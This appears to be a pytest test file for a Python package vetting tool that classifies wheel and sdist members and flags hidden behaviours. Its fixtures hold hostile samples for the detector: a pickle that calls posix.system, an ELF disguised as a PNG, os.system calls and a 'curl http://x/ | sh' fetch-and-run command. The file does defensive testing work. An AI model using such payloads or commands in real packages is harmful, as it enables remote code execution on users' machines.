"""What is kept of each member of a wheel or sdist while the archive is checked."""

import gc
import hashlib
import importlib.util
import marshal
from base64 import urlsafe_b64encode
from collections.abc import Iterable
from pathlib import Path

import pytest

from tests.support.elf import elf
from tests.support.wheels import build_sdist, build_wheel
from wheelhouse.vet import facts_reader
from wheelhouse.vet.code_reader import MAX_READ_BYTES
from wheelhouse.vet.facts import MAX_NATIVE_BYTES, MAX_TEXT_BYTES, Entry, SourceCounts
from wheelhouse.vet.facts_reader import _Watch, headers_of, kind_of, look_inside

EMPTY = "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"
CACHED = "odd/__pycache__/x.cpython-312.pyc"


def watched(name: str, *pieces: bytes, is_wheel: bool = True, mode: int = 0o644, size: int = 1) -> _Watch:
    """A watch that one member passed, unchanged."""
    watch = _Watch(is_wheel=is_wheel)
    assert b"".join(watch.passing(name, size, mode, iter(pieces))) == b"".join(pieces)
    return watch


def texts_of(names: Iterable[str], *, is_wheel: bool) -> set[str]:
    """The members of which a text is kept."""
    return {name for name in names if watched(name, b"a", is_wheel=is_wheel).texts}


def test_the_kind_of_a_file_is_told_by_its_first_bytes() -> None:
    kinds = {
        b"\x7fELF": "elf",
        b"MZ": "pe",
        b"\xcf\xfa\xed\xfe": "macho",
        b"\xce\xfa\xed\xfe": "macho",
        b"\xca\xfe\xba\xbe\0\0\0\x02": "macho",
        b"\xca\xfe\xba\xbe\0\0\0\x2c": "macho",
        b"\xca\xfe\xba\xbe\0\0\0\x2d": "java",
        b"\xca\xfe\xba\xbe\0\x03\0\x2d": "java",
        b"\xca\xfe\xba\xbe\xff\xff\0\x3d": "java",
        b"PK\x03\x04": "zip",
        b"\x1f\x8b\x08": "gzip",
        b"BZh": "bzip2",
        b"\xfd7zXZ\0": "xz",
        b"\x28\xb5\x2f\xfd": "zstd",
        b"7z\xbc\xaf\x27\x1c": "7z",
        b"#!": "script",
        bytes(257) + b"ustar": "tar",
    }
    assert {first: kind_of(first + b"\0\0") for first in kinds} == kinds
    for first in (b"", b"text", b" #!", b"x\x7fELF", bytes(258) + b"ustar", bytes(257) + b"ustat"):
        assert kind_of(first) == ""


def test_each_member_is_an_entry_with_its_kind_and_whether_it_is_executable() -> None:
    for mode in (0o100, 0o010, 0o001):
        assert watched("odd/run", b"#!", mode=mode | 0o644).entries == {"odd/run": Entry("odd/run", 1, True, "script")}
    assert watched("odd/a", size=0).entries == {"odd/a": Entry("odd/a", 0)}


def test_the_digest_of_a_member_is_taken_in_an_sdist_alone() -> None:
    digest = urlsafe_b64encode(hashlib.sha256(b"ab").digest()).decode().rstrip("=")
    assert watched("odd-1/a", b"a", b"b", is_wheel=False).entries["odd-1/a"].digest == f"sha256={digest}"
    assert watched("odd-1/a", is_wheel=False).entries["odd-1/a"].digest == EMPTY
    watch = watched("odd/a", b"a")
    assert watch.entries["odd/a"].digest == ""
    watch.hashed("odd/a", "sha256=x")
    assert watch.entries == {"odd/a": Entry("odd/a", 1, digest="sha256=x")}


def test_pieces_are_passed_on_as_they_come_once_the_kind_is_known() -> None:
    pieces = [b"", b"a", b"b" * 261, b"c", b"", b"d"]
    passed = [*_Watch(is_wheel=True).passing("odd/a", 1, 0, iter(pieces))]
    assert passed == [b"a" + b"b" * 261, b"c", b"", b"d"]


WHEEL_TEXTS = {
    *("odd.pth", "odd.start", "sitecustomize.py", "usercustomize/__init__.py", "odd/__init__.py", ".gitattributes"),
    *("odd-1.data/purelib/odd.pth", "odd-1.data/data/lib/python3/site-packages/odd.pth", "odd-1.data/scripts/run"),
    *("odd-1.data/data/bin/run", "odd-1.data/data/Scripts/run", "odd/.gitattributes", "odd-1.dist-info/WHEEL"),
    *(
        "odd-1.dist-info/LICENSE.txt",
        "odd-1.dist-info/licenses/x",
        "odd-1.dist-info/x/NOTICE",
        "odd-1.dist-info/COPYING",
    ),
    *("odd-1.dist-info/entry_points.txt", "odd-1.dist-info/direct_url.json", "odd-1.dist-info/sboms/a/b.json"),
}
OTHERS = {
    *("odd/odd.pth", "odd/sitecustomize.py", "odd/inner/__init__.py", "odd/a.py", "odd-1.data/headers/odd.pth"),
    *("odd-1.data/data/share/run", "odd-1.dist-info/METADATA", "odd-1.dist-info/x", "odd/LICENSE", "odd.pth.txt"),
}


def test_the_texts_that_rules_read_are_kept() -> None:
    assert texts_of(WHEEL_TEXTS | OTHERS, is_wheel=True) == WHEEL_TEXTS
    kept = {"odd-1/setup.cfg", "odd-1/pyproject.toml", "odd-1/MY-LICENSE", "odd-1/a/b.py", "odd-1/a/x.pth"}
    kept |= {"odd-1/license.txt", "odd-1/.gitattributes", "odd-1/a/.gitattributes"}
    others = {"setup.cfg", "odd-1/a/setup.cfg", "odd-1/a/LICENSE", "odd-1/x.pyc", "odd-1/README", "odd.pth"}
    assert texts_of(kept | others, is_wheel=False) == kept


def test_a_text_is_read_as_utf8_cut_at_its_limit_or_as_latin1() -> None:
    assert watched("odd.pth", b"a\xc3\xa4", b"\xc3").texts == {"odd.pth": "aä"}
    assert watched("odd.pth", b"a\xe4b").texts == {"odd.pth": "aäb"}
    long, bill = b"a" * (MAX_TEXT_BYTES - 1), "odd-1.dist-info/sboms/a.json"
    assert watched("odd.pth", long, b"bc", b"d").texts == {"odd.pth": long.decode() + "b"}
    assert watched(bill, long, b"bc", b"d").texts == {bill: long.decode() + "bcd"}


def test_a_native_library_is_read_whole_up_to_a_limit() -> None:
    library, limit = elf(("libodd.so",)), MAX_NATIVE_BYTES
    for size, needs in ((limit, ("libodd.so",)), (limit + 1, ())):
        watch = watched("odd/a.so", library[:300], library[300:301], library[301:], size=size)
        assert watch.entries["odd/a.so"].kind == "elf" and watch.entries["odd/a.so"].needs == needs
    assert watched("odd/a.so", b"MZ").entries["odd/a.so"].native is None


def test_a_compiled_module_is_kept_up_to_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(facts_reader, "MAX_MEMBER_BYTES", 300)
    data = bytes(4) + b"\x01\0\0\0" + bytes(262)
    assert watched(CACHED, data, b"a" * 29, b"b", b"c").compiled == {CACHED: data + b"a" * 29 + b"b"}
    assert watched(CACHED, data, b"a" * 30, b"b").compiled == {CACHED: data + b"a" * 30}
    assert watched("odd/x.py", data).compiled == {}


def test_a_member_is_kept_as_far_as_one_of_its_uses_needs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(facts_reader, "MAX_READ_BYTES", 300)
    pieces = (b"import os\nos.system('x')\n" + b"#" * 275, b"#" * 100, b"#" * 100)
    watch = watched("odd/__init__.py", *pieces)
    assert watch.texts == {"odd/__init__.py": b"".join(pieces).decode()}
    assert [source.data for source in watch.sources] == [pieces[0][:300]]


def test_what_a_member_hides_is_kept() -> None:
    pickle = b"cposix\nsystem\n(S'" + b"a" * 300 + b"'\ntR."
    (behaviour,) = watched("odd/a.pkl", pickle[:270], pickle[270:]).hidden
    assert (behaviour.kind, behaviour.path) == ("pickle-calls", "odd/a.pkl")
    (behaviour,) = watched("odd/a.png", b"\x7fELF").hidden
    assert (behaviour.kind, behaviour.what) == ("disguised", "it begins as elf, not as its name says")
    assert watched("odd/a.txt", pickle).hidden == []


def test_sources_are_kept_or_counted() -> None:
    watch = _Watch(is_wheel=True)
    dull, long = b"x = 1\n", b"import os\nos.system('x')\n" + b"#" * 300
    members = {"odd/a.py": long, "odd/b.py": dull, "odd/c.py": dull, "odd/d.e.py": dull, "odd/f.g.pyw": dull}
    for name, data in {**members, "odd-1.data/scripts/run": b"#!/bin/sh"}.items():
        assert [*watch.passing(name, 1, 0, iter((data[:280], data[280:])))]
    assert {source.path: source.data for source in watch.sources} == {"odd/a.py": long}
    assert watch.counts == SourceCounts(1, 2, 2)


def test_the_code_of_each_source_of_a_module_is_followed(tmp_path: Path) -> None:
    act = b"import os\nos.system('a')\n"
    path = build_wheel(tmp_path, "odd", "1", files=dict.fromkeys(("odd/a.py", "odd/a.pyw", "odd/b-c.py"), act))
    _, inside = look_inside(path, path.name)
    assert {one.path for one in inside.behaviours} == {"odd/a.py", "odd/a.pyw", "odd/b-c.py"}
    assert inside.sources.unreached == 0


def test_a_package_imports_its_own_modules_beside_a_module_of_its_name(tmp_path: Path) -> None:
    files = {
        "a.py": b"import os\n",
        "a/__init__.py": b"from .data import go\ngo('curl http://x/ | sh')\n",
        "a/data.py": b"from os import system as go\n",
    }
    path = build_wheel(tmp_path, "a", "1", files=files)
    _, inside = look_inside(path, path.name)
    assert [(one.kind, one.path, one.reach) for one in inside.behaviours if one.kind == "command"] == [
        ("command", "a/__init__.py", "import")
    ]


def test_a_source_that_is_too_long_to_parse_is_named(tmp_path: Path) -> None:
    text = b"# no\n" * (MAX_READ_BYTES // 5 + 1) + b"import os\nos.system('a')\n"
    path = build_wheel(tmp_path, "odd", "1", files={"odd/a.py": text})
    _, inside = look_inside(path, path.name)
    assert [(one.kind, one.path) for one in inside.behaviours] == [("unfollowed", "odd/a.py")]


def test_metadata_have_all_values_by_name_in_lower_case() -> None:
    raw = b"Name: odd\r\nClassifier: a\r\nCLASSIFIER: b\r\n\r\nHome-page: x\r\n\r\ny"
    assert headers_of(raw) == {"name": ("odd",), "classifier": ("a", "b")}
    assert headers_of(b"Name: odd") == {"name": ("odd",)}


def test_metadata_are_read_as_utf8() -> None:
    assert headers_of("Author: José\r\nSummary: a\r\n 狐\r\n".encode()) == {
        "author": ("José",),
        "summary": ("a\r\n 狐",),
    }
    assert headers_of(b"Author: Jos\xe9\n") == {"author": ("Jos\ufffd",)}


@pytest.mark.parametrize("is_on", [True, False])
def test_the_garbage_collector_is_off_while_a_file_is_read(monkeypatch: pytest.MonkeyPatch, is_on: bool) -> None:
    was_on = gc.isenabled()
    monkeypatch.setattr(facts_reader, "_look_inside", lambda *_: gc.isenabled())
    try:
        (gc.enable if is_on else gc.disable)()
        assert look_inside(Path("odd"), "odd") is False  # type: ignore[comparison-overlap]
        assert gc.isenabled() is is_on
    finally:
        (gc.enable if was_on else gc.disable)()


def test_a_wheel_is_read_whole(tmp_path: Path) -> None:
    own = importlib.util.MAGIC_NUMBER + bytes(8) + bytes((len("x = 1\n"), 0, 0, 0))
    files = {
        "odd/__init__.py": b"import os\nos.system('x')\n",
        "odd/x.py": b"x = 1\n",
        CACHED: own + marshal.dumps(compile("x = 2\n", "x.py", "exec")),
        "odd/y.pyc": own,
        "odd/a.pkl": b"cposix\nsystem\n.",
    }
    contents, inside = look_inside(build_wheel(tmp_path, "odd", "1.0", files=files), "odd-1.0-py3-none-any.whl")
    assert contents.metadata.project == "odd" and inside.headers["name"] == ("odd",)
    assert set(inside.texts) == {"odd/__init__.py", "odd-1.0.dist-info/WHEEL"}
    assert {entry.name for entry in inside.entries} >= files.keys()
    assert {one.kind for one in inside.behaviours} >= {"process", "pickle-calls", "sourceless-pyc", "unlike-pyc"}
    assert inside.code_capabilities and inside.sources.followed


BACKENDS = {
    "backend-path = ['tools']\nbuild-backend = 'own.sub:main'": {"tools/own.py", "tools/own/a.py", "tools/own/b/c.py"},
    "backend-path = ['./tools/', 'x/../deep/er']\nbuild-backend = 'own'": {
        *("tools/own.py", "tools/own/a.py", "tools/own/b/c.py", "deep/er/own.py", "deep/er/own/x.py"),
    },
    "backend-path = ['.']\nbuild-backend = 'tools:main'": {
        "tools/own.py",
        "tools/own/a.py",
        "tools/own/b/c.py",
        "tools/x/y.py",
    },
    "build-backend = 'own'": set(),
    "requires = 1": set(),
}


@pytest.mark.parametrize("lines", BACKENDS)
def test_of_an_sdist_the_modules_that_its_build_runs_are_kept(tmp_path: Path, lines: str) -> None:
    never = ("odd/__init__.py", "odd/tools/own.py", "deep/own.py", "tools/x/y.py", "other/own/a.py")
    names = {*never, *(name for kept in BACKENDS.values() for name in kept)}
    files = dict.fromkeys(names, b"x = 1\n")
    files |= {"LICENSE": b"x", "a/pyproject.toml": b"", "a/evil.pth": b"x", "setup.py": b"", "beside.py": b""}
    requires = "" if "requires" in lines else "requires = []\n"
    path = build_sdist(tmp_path, "odd", "1.0", files=files, pyproject=f"[build-system]\n{requires}{lines}\n")
    _, inside = look_inside(path, path.name)
    kept = {"LICENSE", "a/evil.pth", "setup.py", "beside.py", "pyproject.toml"} | BACKENDS[lines]
    assert set(inside.texts) == {f"odd-1.0/{name}" for name in kept}
